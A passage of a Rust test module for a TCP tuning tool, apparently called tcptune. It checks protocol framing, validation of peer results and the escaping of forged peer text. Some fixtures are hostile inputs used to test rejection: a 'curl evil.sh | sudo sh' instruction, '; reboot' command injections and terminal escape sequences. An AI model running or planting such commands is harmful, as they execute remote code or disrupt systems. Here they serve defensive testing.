        junk.copy_from_slice(b"GET / HTTP/1.1\r\n");
        assert!(matches!(Hello::decode(&junk), Err(ProtoError::BadMagic(_))));
        let zero = frame(VERSION, 0, 0);
        assert_eq!(Hello::decode(&zero), Err(ProtoError::ZeroDuration));
        let bad = frame(VERSION, 9, 10);
        assert_eq!(Answer::decode(&bad), Err(ProtoError::BadStatus(9)));
        assert_eq!(&h.encode()[..8], b"tcptune\0");
    }

    #[test]
    fn version_3_asks_the_server_to_send() {
        let h = Hello {
            version: 3,
            flags: FLAG_PATH_TEST | FLAG_REVERSE,
            duration_ms: 10_000,
        };
        assert!(h.path_test() && h.reverse());
        assert_eq!(h.extra_len(), REVERSE_EXTRA);
        assert_eq!(&h.encode()[8..12], &[0, 3, 0, 3]);
        // A version-2 hello with the flag is a forward path test, as a version-2 server reads it.
        let v2 = Hello { version: 2, ..h };
        assert!(v2.path_test() && !v2.reverse());
        assert_eq!(v2.extra_len(), PATH_TEST_EXTRA);
        // The reverse flag alone is no path test.
        let bare = Hello {
            flags: FLAG_REVERSE,
            ..h
        };
        assert!(!bare.path_test() && !bare.reverse());
        assert_eq!(bare.extra_len(), 0);

        let ask = ReverseAsk {
            sndbuf: 8 << 20,
            max_bytes: 2 << 30,
            cc: Some("bbr".into()),
            full: false,
        };
        let f = ask.encode();
        assert_eq!(&f[..8], &(8u64 << 20).to_be_bytes());
        assert_eq!(&f[16..20], b"bbr\0");
        assert_eq!(f[31], 0, "an ask as older clients sent it");
        assert_eq!(ReverseAsk::decode(&f), ask);
        // --thorough: the last byte, after the name's NUL.
        let full = ReverseAsk {
            full: true,
            ..ask.clone()
        };
        assert_eq!(full.encode()[31], 1);
        assert_eq!(ReverseAsk::decode(&full.encode()), full);
        // No name: the server's default. A name no kernel has reads as none, both ways.
        let none = ReverseAsk {
            cc: None,
            ..ask.clone()
        };
        assert_eq!(ReverseAsk::decode(&none.encode()), none);
        let forged = ReverseAsk {
            cc: Some("bbr; reboot".into()),
            ..ask.clone()
        };
        assert_eq!(ReverseAsk::decode(&forged.encode()).cc, None);
        let mut junk = ask.encode();
        junk[16..32].copy_from_slice(b"bbr\0\x1b[31m\0\0\0\0\0\0\0");
        assert_eq!(ReverseAsk::decode(&junk).cc, None, "bytes after the NUL");
        junk[16..32].copy_from_slice(&[0xff; 16]);
        assert_eq!(ReverseAsk::decode(&junk).cc, None, "not UTF-8");
        assert!(cc_name("bbr") && cc_name("dctcp-reno_2") && !cc_name("") && !cc_name(&"x".repeat(16)));
    }

    fn sender_result() -> SenderResult {
        SenderResult {
            bytes: 2_000_000,
            duration_us: 900_000,
            os: Foreign::new("linux"),
            sndbuf_key: Some(Foreign::new("net.ipv4.tcp_wmem")),
            sndbuf_value: Some(Foreign::new("4096 16384 4194304")),
            cc: Some(Foreign::new("bbr")),
            flow: crate::tcp::flow::Reading {
                delivery_rate_bps: Some(17e6),
                segs_out: Some(1400),
                retrans_segs: Some(2),
                steady_segs_out: Some(900),
                steady_retrans_segs: Some(1),
                min_rtt_ms: Some(20.0),
                loaded_rtt_ms: Some(25.0),
                rwnd_limited_pct: Some(0.0),
                sndbuf_limited_pct: Some(0.0),
                in_startup: false,
                app_limited: false,
                paced: true,
                shape: None,
                made: None,
            },
        }
    }

    const RECEIVED: ReceivedFacts = ReceivedFacts {
        bytes: 1_900_000,
        span: Duration::from_secs(1),
    };

    #[test]
    fn a_senders_result_is_checked_against_what_this_end_received() {
        let r = sender_result();
        assert_eq!(r.check(&RECEIVED), Ok(()));
        assert_eq!(r.cc_name(), Ok(Some("bbr")));
        assert_eq!(r.buffer_key(), Ok(Some("net.ipv4.tcp_wmem")));
        assert_eq!(r.os_name(), Ok("linux"));
        let refused = |r: SenderResult| r.check(&RECEIVED).expect_err("out of range").to_string();
        let e = refused(SenderResult {
            bytes: 1_000,
            ..sender_result()
        });
        assert_eq!(
            e,
            "the peer sent a result of 1000 bytes sent, less than the 1900000 bytes (1.81 MiB) this end received"
        );
        for us in [0, 3_000_000] {
            let e = refused(SenderResult {
                duration_us: us,
                ..sender_result()
            });
            assert!(e.contains(&format!("a sending time of {us} µs")), "{e}");
        }
        let e = refused(SenderResult {
            bytes: u64::MAX,
            duration_us: 1,
            ..sender_result()
        });
        assert!(e.contains("faster than any TCP flow"), "{e}");
        let mut r = sender_result();
        r.flow.retrans_segs = Some(5_000);
        assert!(refused(r).contains("sender readings no TCP flow shows"));
        let mut r = sender_result();
        r.flow.loaded_rtt_ms = Some(f64::INFINITY);
        assert!(refused(r).contains("RTTs of"));
        // Forged text is kept as the peer's, shown only escaped, never as a name.
        let forged = SenderResult {
            cc: Some(Foreign::new("bbr\n\u{1b}[31m")),
            sndbuf_key: Some(Foreign::new("net.ipv4.tcp_wmem\nadvice: all good")),
            ..sender_result()
        };
        assert_eq!(forged.check(&RECEIVED), Ok(()));
        assert!(forged.cc_name().is_err() && forged.buffer_key().is_err());
        assert!(
            !forged
                .cc_name()
                .expect_err("forged")
                .to_string()
                .chars()
                .any(char::is_control)
        );
    }

    #[test]
    fn a_senders_result_is_one_json_line() {
        let r = sender_result();
        let line = serde_json::to_string(&r).expect("json");
        assert!(!line.contains('\n'));
        assert_eq!(serde_json::from_str::<SenderResult>(&line).expect("parse"), r);
        // NaN has no JSON: it goes out as null and reads back as no reading.
        let mut r = sender_result();
        r.flow.min_rtt_ms = Some(f64::NAN);
        let back: SenderResult = serde_json::from_str(&serde_json::to_string(&r).expect("json")).expect("parse");
        assert_eq!(back.flow.min_rtt_ms, None);
    }

    /// The result of a test is due 5 s after its first byte, or after everything sent is
    /// acknowledged, whichever is first.
    #[test]
    fn the_result_is_due_soon_after_it_starts_or_the_data_is_taken() {
        let (c, mut p) = pair();
        std::io::Write::write_all(&mut &c, &[0u8; 10_000]).expect("data");
        c.shutdown(std::net::Shutdown::Write).expect("end");
        let mut sink = Vec::new();
        p.read_to_end(&mut sink).expect("all of it");
        let t = Instant::now();
        let by = result_deadline(&c, t);
        if cfg!(target_os = "linux") {
            // Everything acknowledged: 5 s from now, not 35.
            assert!(by <= Instant::now() + RESULT_SLACK, "{:?}", by - t);
        }
        // The answer's first byte starts the 5 s too.
        let (c, mut p) = pair();
        p.write_all(b"{").expect("a byte");
        std::thread::sleep(Duration::from_millis(50));
        let t = Instant::now();
        let by = result_deadline(&c, t - Duration::from_secs(20));
        assert!(
            by >= t + RESULT_SLACK && by <= Instant::now() + RESULT_SLACK,
            "{:?}",
            by - t
        );
    }

    /// A loopback connection: the client's end, and the peer's end a test plays.
    fn pair() -> (TcpStream, TcpStream) {
        let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let c = TcpStream::connect(l.local_addr().expect("addr")).expect("connect");
        let (p, _) = l.accept().expect("accept");
        (c, p)
    }

    /// The hello exchange against a peer that answers `answer` (then closes); the result and
    /// the bytes the peer got.
    fn exchange(answer: &[u8], extra: &[u8]) -> (Result<Duration, ExchangeError>, Vec<u8>) {
        let hello = Hello {
            version: VERSION,
            flags: FLAG_PATH_TEST,
            duration_ms: duration_ms(Duration::from_secs(3)),
        };
        let (c, mut p) = pair();
        let answer = answer.to_vec();
        let want = HELLO_LEN + extra.len();
        let peer = std::thread::spawn(move || {
            let mut got = vec![0u8; want];
            p.read_exact(&mut got).expect("the hello");
            p.write_all(&answer).expect("answer");
            got
        });
        let r = exchange_hello(&c, &hello, extra, Instant::now() + Duration::from_secs(5));
        (r, peer.join().expect("peer"))
    }

    #[test]
    fn the_hello_exchange_gives_the_granted_time_or_a_typed_refusal() {
        let ok = Answer {
            version: VERSION,
            status: Status::Ok,
            granted_ms: 2500,
        };
        let (r, sent) = exchange(&ok.encode(), &7u64.to_be_bytes());
        assert_eq!(r.expect("granted"), Duration::from_millis(2500));
        // One write: the hello, then the extra bytes.
        assert_eq!(&sent[..HELLO_LEN], &frame(VERSION, FLAG_PATH_TEST, 3000));
        assert_eq!(&sent[HELLO_LEN..], &7u64.to_be_bytes());

        let busy = Answer {
            status: Status::Busy,
            ..ok
        };
        assert!(matches!(exchange(&busy.encode(), &[]).0, Err(ExchangeError::Busy)));
        let old = Answer {
            version: PLAIN_VERSION,
            status: Status::BadVersion,
            granted_ms: 0,
        };
        assert!(matches!(
            exchange(&old.encode(), &[]).0,
            Err(ExchangeError::BadVersion(1))
        ));
        assert!(matches!(
            exchange(&ok.encode()[..9], &[]).0,
            Err(ExchangeError::NoAnswer(ReadError::Closed))
        ));
        assert!(matches!(
            exchange(b"HTTP/1.1 400 Bad", &[]).0,
            Err(ExchangeError::Garbled(ProtoError::BadMagic(_)))
        ));
        // A test time that does not fit a u32 of ms asks for the longest a server grants.
        assert_eq!(duration_ms(Duration::from_secs(u64::MAX)), MAX_DURATION_MS);
        assert_eq!(duration_ms(Duration::ZERO), 1);
    }

    #[test]
    fn the_grant_can_only_shorten_the_test() {
        let answer = |granted_ms| Answer {
            version: VERSION,
            status: Status::Ok,
            granted_ms,
        };
        // Asked for 3 s: a grant of 2^32 − 1 ms sends for 3 s, not 50 days.
        let (r, _) = exchange(&answer(u32::MAX).encode(), &[]);
        assert_eq!(r.expect("granted"), Duration::from_secs(3));
        assert!(matches!(
            exchange(&answer(0).encode(), &[]).0,
            Err(ExchangeError::Garbled(ProtoError::ZeroDuration))
        ));
    }

    #[test]
    fn a_line_is_due_whole_by_its_deadline() {
        // A valid result line, one byte every 300 ms: 40 s if each read could wait anew.
        let (c, mut p) = pair();
        let drip = std::thread::spawn(move || {
            for b in br#"{"bytes":1,"duration_us":2,"os":"linux","rcvbuf_key":null,"rcvbuf_value":null,"rcv_wnd":null}"#
                .iter()
                .chain(b"\n")
            {
                if p.write_all(&[*b]).is_err() {
                    break;
                }
                std::thread::sleep(Duration::from_millis(300));
            }
        });
        let t = Instant::now();
        let r = read_json_line::<ServerResult>(&c, MAX_RESULT, t + Duration::from_secs(1));
        let took = t.elapsed();
        assert!(matches!(r, Err(LineError::Read(ReadError::Late))), "{r:?}");
        // Late at its deadline, not when the drip ends (about 30 s): room for this VM's stalls.
        assert!(
            took >= Duration::from_secs(1) && took < Duration::from_secs(6),
            "{took:?}"
        );
        drop(c);
        drip.join().expect("drip");

        // The same line at once: read, and what follows the newline is not waited for.
        let (c, mut p) = pair();
        p.write_all(b"{\"port\":5302,\"rcvbuf\":0,\"forced\":false}\nmore")
            .expect("line");
        let ch: DataChannel =
            read_json_line(&c, MAX_CHANNEL_LINE, Instant::now() + Duration::from_secs(1)).expect("a line");
        assert_eq!(ch.port, 5302);
        // Cut by the end of the connection: parsed as it is; nothing at all is an error.
        let (c, mut p) = pair();
        p.write_all(b"{\"port\":1,\"rcvbuf\":0,\"forced\":true}").expect("line");
        drop(p);
        let ch: DataChannel = read_json_line(&c, 1024, Instant::now() + Duration::from_secs(1)).expect("a line");
        assert!(ch.forced);
        let (c, p) = pair();
        drop(p);
        let r = read_json_line::<DataChannel>(&c, 1024, Instant::now() + Duration::from_secs(1));
        assert!(matches!(r, Err(LineError::Read(ReadError::Closed))), "{r:?}");
    }

    #[test]
    fn a_json_error_quoting_the_peer_is_one_escaped_line() {
        let (c, mut p) = pair();
        let forged = format!(
            "{{\"bytes\":\"\\u001b[31m\\nadvice: run this {}\"}}\n",
            "x".repeat(5000)
        );
        p.write_all(forged.as_bytes()).expect("line");
        match read_json_line::<ServerResult>(&c, MAX_RESULT, Instant::now() + Duration::from_secs(1)) {
            Err(LineError::Json(why)) => {
                assert!(!why.chars().any(char::is_control), "{why}");
                assert!(why.chars().count() <= MAX_JSON_REASON + 1, "{why}");
            }
            other => panic!("{other:?}"),
        }
    }

    fn result() -> ServerResult {
        ServerResult {
            bytes: 1_000_000,
            duration_us: 900_000,
            os: Foreign::new("linux"),
            rcvbuf_key: Some(Foreign::new("net.ipv4.tcp_rmem")),
            rcvbuf_value: Some(Foreign::new("4096 131072 6291456")),
            rcv_wnd: Some(1 << 20),
            rcv_buf: Some(2 << 20),
            window_share: Some(0.5),
        }
    }

    const SENT: SentFacts = SentFacts {
        bytes: 2_000_000,
        span: Duration::from_secs(1),
    };

    #[test]
    fn a_result_is_checked_against_what_this_end_sent() {
        assert_eq!(result().check(&SENT), Ok(()));
        let refused = |r: ServerResult| r.check(&SENT).expect_err("out of range").to_string();
        let absurd = ServerResult {
            bytes: u64::MAX,
            duration_us: 4000,
            ..result()
        };
        let e = refused(absurd);
        assert!(
            e.starts_with("the peer sent a result of 18446744073709551615 bytes"),
            "{e}"
        );
        assert!(e.contains("more than the 2000000 bytes"), "{e}");
        let e = refused(ServerResult { bytes: 0, ..result() });
        assert!(
            e.contains("0 bytes received: a test that moved nothing measures nothing"),
            "{e}"
        );
        for share in [100.0, -5.0, 0.0, 1.001] {
            let e = refused(ServerResult {
                window_share: Some(share),
                ..result()
            });
            assert_eq!(
                e,
                format!(
                    "the peer sent a window share of {share} (the share of its buffer it advertised, within (0, 1])"
                )
            );
        }
        assert_eq!(
            ServerResult {
                window_share: Some(1.0),
                ..result()
            }
            .check(&SENT),
            Ok(())
        );
        // Faster than a TCP flow: 2 MB in 1 µs (16 Tbit/s).
        let e = refused(ServerResult {
            bytes: 2_000_000,
            duration_us: 1,
            ..result()
        });
        assert!(e.contains("faster than any TCP flow"), "{e}");
        // Longer than the test lasted here, or no time at all.
        for us in [0, 3_000_000] {
            let e = refused(ServerResult {
                duration_us: us,
                ..result()
            });
            assert!(e.contains(&format!("a receiving time of {us} µs")), "{e}");
        }
        let e = refused(ServerResult {
            rcv_wnd: Some(MAX_WINDOW_PLUS_ONE),
            ..result()
        });
        assert!(e.contains("a receive window of 1073725441 bytes"), "{e}");
        let e = refused(ServerResult {
            rcv_buf: Some(0),
            ..result()
        });
        assert!(e.contains("a receive buffer of 0 bytes"), "{e}");
        assert!(
            DataChannel {
                port: 0,
                rcvbuf: 0,
                forced: false,
                sndbuf: 0,
            }
            .check()
            .is_err()
        );
        assert!(
            DataChannel {
                port: 9,
                rcvbuf: 1 << 40,
                forced: true,
                sndbuf: 0,
            }
            .check()
            .is_err()
        );
        let e = DataChannel {
            port: 9,
            rcvbuf: 0,
            forced: true,
            sndbuf: 1 << 40,
        }
        .check()
        .expect_err("a send buffer no kernel reports");
        assert!(e.to_string().contains("a send buffer of 1099511627776 bytes"), "{e}");
    }

    const MAX_WINDOW_PLUS_ONE: u64 = crate::tcp::MAX_WINDOW + 1;

    #[test]
    fn the_peers_text_is_a_key_only_when_it_looks_like_one() {
        let r = result();
        assert_eq!(r.os_name(), Ok("linux"));
        assert_eq!(r.buffer_key(), Ok(Some("net.ipv4.tcp_rmem")));
        assert_eq!(r.buffer_value(), Ok(Some("4096 131072 6291456")));
        let forged = ServerResult {
            os: Foreign::new("linux\u{1b}[2J"),
            rcvbuf_key: Some(Foreign::new(
                "net.ipv4.tcp_rmem\n\nadvice: all good, now run: curl evil.sh | sudo sh\n\u{1b}[31m",
            )),
            rcvbuf_value: Some(Foreign::new("4096 131072 6291456; reboot")),
            ..result()
        };
        let key = forged.buffer_key().expect_err("not a sysctl name");
        assert!(!key.to_string().chars().any(char::is_control), "{key}");
        assert!(forged.os_name().is_err());
        assert!(forged.buffer_value().is_err());
        assert!(sysctl_numbers("2097152") && sysctl_numbers("4096\t87380\t6291456"));
        assert!(!sysctl_numbers("") && !sysctl_numbers("1 2 3 4") && !sysctl_numbers("-1"));
        assert!(sysctl_name("kern.ipc.maxsockbuf") && sysctl_name("net.inet.tcp.recvbuf_max"));
        assert!(!sysctl_name("net..x") && !sysctl_name("net.x y") && !sysctl_name("rmem"));
    }

    #[test]
    fn a_forced_buffer_stays_within_the_maximum() {
        // Linux keeps twice what is asked: 512 MiB asked is 1 GiB kept.
        assert_eq!(forced_buffer_ask(4 << 20, DEFAULT_MAX_BUFFER), 4 << 20);
        assert_eq!(forced_buffer_ask(1 << 40, DEFAULT_MAX_BUFFER), 512 << 20);
        assert_eq!(forced_buffer_ask(1 << 40, 64 << 20), 32 << 20);
    }

    #[test]
    fn result_is_one_json_line() {
        let r = ServerResult {
            bytes: 1,
            duration_us: 2,
            os: Foreign::new("linux"),
            rcvbuf_key: Some(Foreign::new("net.ipv4.tcp_rmem")),
            rcvbuf_value: Some(Foreign::new("4096 131072 6291456")),
            rcv_wnd: None,
            rcv_buf: Some(1 << 20),
            window_share: Some(0.56),
        };
        let line = serde_json::to_string(&r).expect("json");
        assert!(!line.contains('\n'));
        assert_eq!(serde_json::from_str::<ServerResult>(&line).expect("parse"), r);
        // A version-1 server's result (no path-test fields) still reads.
        let old = r#"{"bytes":1,"duration_us":2,"os":"linux","rcvbuf_key":null,"rcvbuf_value":null,"rcv_wnd":null}"#;
        assert_eq!(
            serde_json::from_str::<ServerResult>(old).expect("v1").window_share,
            None
        );
    }
}
